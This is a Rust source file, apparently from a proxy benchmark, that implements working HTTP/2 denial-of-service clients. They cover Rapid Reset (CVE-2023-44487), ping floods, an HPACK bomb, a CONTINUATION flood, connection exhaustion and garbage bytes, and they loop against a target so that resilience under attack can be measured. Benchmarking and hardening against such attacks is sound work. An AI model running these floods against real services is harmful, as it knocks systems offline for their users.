//! weft-attack: hostile HTTP/2 clients, for the benchmark's "under attack"
//! scenarios. Each kind attacks over a few connections in a loop (a
//! connection the target closes is opened again) until the process is
//! killed, while the harness measures a well-behaved client beside it. The
//! attacks are the ones `crates/test-support/tests/hostile.rs` checks the
//! proxy survives; here they run against every target alike, so that what
//! an attack costs the good client can be compared.

use std::{
    io::{Read, Write},
    net::{SocketAddr, TcpStream},
    time::Duration,
};

use clap::{Parser, ValueEnum};
use weft_splice::{
    frame::{self, code, kind},
    hpack,
};

/// Attacks an HTTP/2 (gRPC) listener until killed.
#[derive(Parser, Debug)]
#[command(name = "weft-attack")]
struct Args {
    /// The listener to attack.
    #[arg(long)]
    target: SocketAddr,
    /// The `:authority` of the requests it sends.
    #[arg(long, default_value = "square.demo:50051")]
    authority: String,
    #[arg(long, value_enum)]
    kind: Kind,
    /// Attacking connections at once (`connections`: how many to hold).
    #[arg(long, default_value_t = 4)]
    connections: usize,
}

#[derive(Clone, Copy, Debug, ValueEnum)]
enum Kind {
    /// Requests opened and reset at once (CVE-2023-44487).
    RapidReset,
    /// PING and SETTINGS frames, as fast as they are taken.
    PingFlood,
    /// One 4 KB header in the target's HPACK table, then header blocks of
    /// thousands of one-byte references to it (16 MB each, decoded).
    HpackBomb,
    /// A header block that never ends: CONTINUATION frames forever.
    ContinuationFlood,
    /// Idle HTTP/2 connections, as many as `--connections`, held.
    Connections,
    /// Random bytes on new connections.
    Garbage,
}

const PATH: &str = "/square.Square/Square";

fn main() {
    let args = Args::parse();
    let workers = match args.kind {
        Kind::Connections => 1,
        _ => args.connections,
    };
    let threads: Vec<_> = (0..workers)
        .map(|i| {
            let (target, authority, kind, n) = (args.target, args.authority.clone(), args.kind, args.connections);
            std::thread::spawn(move || {
                loop {
                    let result = match kind {
                        Kind::Connections => hold(target, n),
                        Kind::Garbage => garbage(target, i as u64),
                        _ => flood(target, &authority, kind),
                    };
                    if result.is_err() {
                        // Closed by the target (or refused): again, after a breath.
                        std::thread::sleep(Duration::from_millis(5));
                    }
                }
            })
        })
        .collect();
    for t in threads {
        let _ = t.join();
    }
}

/// A connection that has sent the preface and an empty SETTINGS; what the
/// target sends back is read and dropped on another thread, so that the
/// attack is never held back by its own unread input.
fn open(target: SocketAddr) -> std::io::Result<TcpStream> {
    let mut s = TcpStream::connect(target)?;
    let _ = s.set_nodelay(true);
    let mut hello = frame::PREFACE.to_vec();
    frame::put_settings(&mut hello, &[]);
    s.write_all(&hello)?;
    let mut r = s.try_clone()?;
    std::thread::spawn(move || {
        let mut buf = [0u8; 16 << 10];
        while matches!(r.read(&mut buf), Ok(n) if n > 0) {}
    });
    Ok(s)
}

fn flood(target: SocketAddr, authority: &str, kind: Kind) -> std::io::Result<()> {
    let mut s = open(target)?;
    let head = hpack::raw::request_head(authority, PATH);
    let mut stream = 1u32;
    let mut out = Vec::with_capacity(64 << 10);
    match kind {
        Kind::HpackBomb => {
            let mut first = head.clone();
            hpack::raw::literal_indexed(&mut first, b"x-big", &[b'~'; 4000]);
            frame::put_headers(&mut out, stream, &first, false, frame::DEFAULT_MAX_FRAME);
            frame::put_rst(&mut out, stream, code::CANCEL);
            s.write_all(&out)?;
        }
        Kind::ContinuationFlood => {
            frame::put_head(&mut out, head.len(), kind::HEADERS, 0, stream);
            out.extend_from_slice(&head);
            s.write_all(&out)?;
        }
        _ => {}
    }
    loop {
        out.clear();
        match kind {
            Kind::RapidReset => {
                for _ in 0..100 {
                    frame::put_headers(&mut out, stream, &head, false, frame::DEFAULT_MAX_FRAME);
                    frame::put_rst(&mut out, stream, code::CANCEL);
                    stream = next(stream)?;
                }
            }
            Kind::PingFlood => {
                for i in 0..1_000u64 {
                    frame::put_head(&mut out, 8, kind::PING, 0, 0);
                    out.extend_from_slice(&i.to_be_bytes());
                    if i % 10 == 0 {
                        frame::put_settings(&mut out, &[]);
                    }
                }
            }
            Kind::HpackBomb => {
                stream = next(stream)?;
                let mut block = head.clone();
                for _ in 0..4_000 {
                    hpack::raw::indexed(&mut block, 62);
                }
                frame::put_headers(&mut out, stream, &block, true, frame::DEFAULT_MAX_FRAME);
            }
            Kind::ContinuationFlood => {
                for _ in 0..16 {
                    frame::put_head(&mut out, 1_000, kind::CONTINUATION, 0, 1);
                    out.resize(out.len() + 1_000, 0x40);
                }
            }
            Kind::Connections | Kind::Garbage => unreachable!("not a flood"),
        }
        s.write_all(&out)?;
        if matches!(kind, Kind::ContinuationFlood) {
            // A slow drip rather than a torrent: what a slowloris does.
            std::thread::sleep(Duration::from_millis(1));
        }
    }
}

/// The next client stream id, or an error once they run out (a new
/// connection starts again at 1).
fn next(stream: u32) -> std::io::Result<u32> {
    match stream.checked_add(2) {
        Some(s) if s < 1 << 31 => Ok(s),
        _ => Err(std::io::Error::other("stream ids ran out")),
    }
}

/// Holds `n` idle connections, opening one again whenever the target
/// closes one.
fn hold(target: SocketAddr, n: usize) -> std::io::Result<()> {
    let mut held: Vec<TcpStream> = Vec::with_capacity(n);
    loop {
        held.retain(|s| {
            let mut b = [0u8; 1];
            let _ = s.set_nonblocking(true);
            // Open while a read would block (the reader thread drains
            // what the target sends); end of stream or an error: closed.
            match s.peek(&mut b) {
                Ok(n) => n > 0,
                Err(e) => e.kind() == std::io::ErrorKind::WouldBlock,
            }
        });
        while held.len() < n {
            match open(target) {
                Ok(s) => held.push(s),
                Err(_) => break,
            }
        }
        std::thread::sleep(Duration::from_millis(100));
    }
}

/// A connection that sends 1 KiB of random bytes, then waits for the close.
fn garbage(target: SocketAddr, seed: u64) -> std::io::Result<()> {
    let mut s = TcpStream::connect(target)?;
    let mut x = seed.wrapping_mul(0x9e37_79b9_7f4a_7c15) | 1;
    let bytes: Vec<u8> = (0..1024)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x as u8
        })
        .collect();
    s.write_all(&bytes)?;
    s.set_read_timeout(Some(Duration::from_secs(2)))?;
    let mut buf = [0u8; 4096];
    while matches!(s.read(&mut buf), Ok(n) if n > 0) {}
    Err(std::io::Error::other("closed"))
}
